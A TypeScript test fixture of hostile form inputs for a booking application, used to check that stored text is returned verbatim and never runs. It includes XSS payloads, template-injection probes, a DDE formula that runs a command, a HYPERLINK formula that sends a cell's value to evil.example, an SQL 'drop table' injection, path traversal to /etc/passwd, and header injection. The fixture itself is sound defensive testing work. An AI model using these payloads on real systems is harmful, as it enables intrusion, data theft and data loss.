// Texts that do harm if treated as something other than text. Each script sets a flag, so that a page shows whether one ever ran.

import { patterns } from '#domain/contact-rules.ts'

export const flag = '__ran'
const run = `window.${flag}=1`

/** Text that a form may well contain: stored, it is returned character by character. */
export const texts = {
  script: `<script>${run};alert(1)</script>`,
  'image with a handler': `<img src=x onerror="${run};alert(1)">`,
  'end of an attribute': `" autofocus onfocus="${run}" x="`,
  'end of a title': `</title></style></textarea></script><svg/onload="${run}">`,
  'a link that runs': `javascript:${run};alert(1)//`,
  entities: '&lt;b&gt;bold&lt;/b&gt; &amp;amp; <b>bold</b> <!-- x -->',
  templates: `{{constructor.constructor("alert(1)")()}} \${7*7} <%= 7*7 %> #{7*7}`,
  'a formula with a program': `=cmd|' /C calc'!A0`,
  'a formula with a link': '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  'a plus': '+1+1',
  'a minus': '-1+1',
  'an at': '@SUM(1+1)*cmd',
  'a pipe': '|whoami',
  sql: `'; drop table bookings; --`,
  'a pattern': '.*+?^$()|[]{}\\%_',
  paths: '../../../../etc/passwd',
  percent: '%00%0d%0aSet-Cookie:x=1%',
  'a direction override': 'gepj.\u202Egpj.exe\u202C \u2067abc\u2069',
  'zero width': 'a\u200Bb\u200Dc\u2060d\uFEFFe',
  emoji: '👩‍👩‍👧‍👦 🏄🏽‍♀️ 🇪🇪',
  persian: 'علی\u200cرضا',
  cyrillic: 'Юлия Ёжикова-Щукина',
  estonian: 'Õnne Äärelä Ööülikool Šveits Žanna',
  'piled up marks': `Z${'\u0301\u0323\u0308'.repeat(10)}alg`,
  names: '__proto__ constructor null undefined NaN',
} as const

/** Characters forbidden in names; bookings from before that rule may have them. */
export const hasInvisible = (text: string): boolean => !patterns.name.test(text)

/** Text that no form may store: it is refused with its field, or repaired if only the ends are trimmed. */
export const unfit = {
  'a header of a mail': 'Liis\r\nBcc: all@example.ee',
  'a line': 'Liis\nTamm',
  'a tab and a formula': '\t=1+1',
  'a NUL': 'Liis\u0000Tamm',
  'half a character': 'Liis \ud83d',
  'the other half': '\udc00 Liis',
  'a bell and an escape': '\u0007\u001b[31mred',
  'a line separator': 'Liis\u2028Tamm',
  'very long': 'Õ'.repeat(20_000),
  nothing: '',
  spaces: '   ',
} as const

/** Values that are not text at all. */
export const noTexts: readonly unknown[] = [null, true, 0, -1, 1e308, [], {}, ['x'], { toString: 'x' }]

export const everyText: readonly (readonly [string, string])[] = [
  ...Object.entries(texts),
  ...Object.entries(unfit),
]
